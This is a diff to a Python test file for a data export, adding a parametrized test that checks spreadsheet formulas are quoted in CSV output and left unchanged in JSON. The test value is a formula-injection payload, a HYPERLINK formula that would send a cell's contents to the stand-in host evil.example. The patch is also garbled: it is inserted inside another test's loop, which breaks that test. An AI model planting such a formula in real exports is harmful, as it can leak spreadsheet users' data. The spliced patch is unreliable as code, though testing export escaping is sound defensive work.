@@ -145,6 +145,22 @@ def test_a_cell_that_a_spreadsheet_would_calculate_is_quoted_where_anybody_types
 
 def test_the_summary_says_what_why_on_which_basis_until_when_and_who_received_it(full, ledger):
     for day in ("2026-02-09", "2026-02-10"):
+@pytest.mark.parametrize(("table", "column"), [
+    ("activity", "user_agent"), ("security_events", "user_agent"), ("professional_users", "family_name"),
+    ("third_party_profiles", "attribute"),
+])  # fmt: skip
+def test_it_is_quoted_in_every_column_that_has_no_closed_list_of_values(full, table, column):
+    formula = '=HYPERLINK("https://evil.example/?"&A2)'
+    full.write(
+        "third_party_profiles", user_id=ADA, provider="a", attribute="b", value="c", obtained_at=f"{DAY} 09:00:00"
+    )
+    full.change(f"UPDATE {table} SET {column} = ? WHERE user_id = ?", formula, ADA)
+    _, files = made(full)
+    cells = {row[column] for row in csv.DictReader(io.StringIO(files[f"platform/{table}.csv"]))}
+    assert cells == {f"'{formula}"}
+    assert {row[column] for row in json.loads(files[f"platform/{table}.json"])} == {formula}
+
+
         ledger.append("exported", release="partner_threat_events", day=day, recipient="threat_partner")
     page = made(full)[1]["summary.html"]
     for said in (
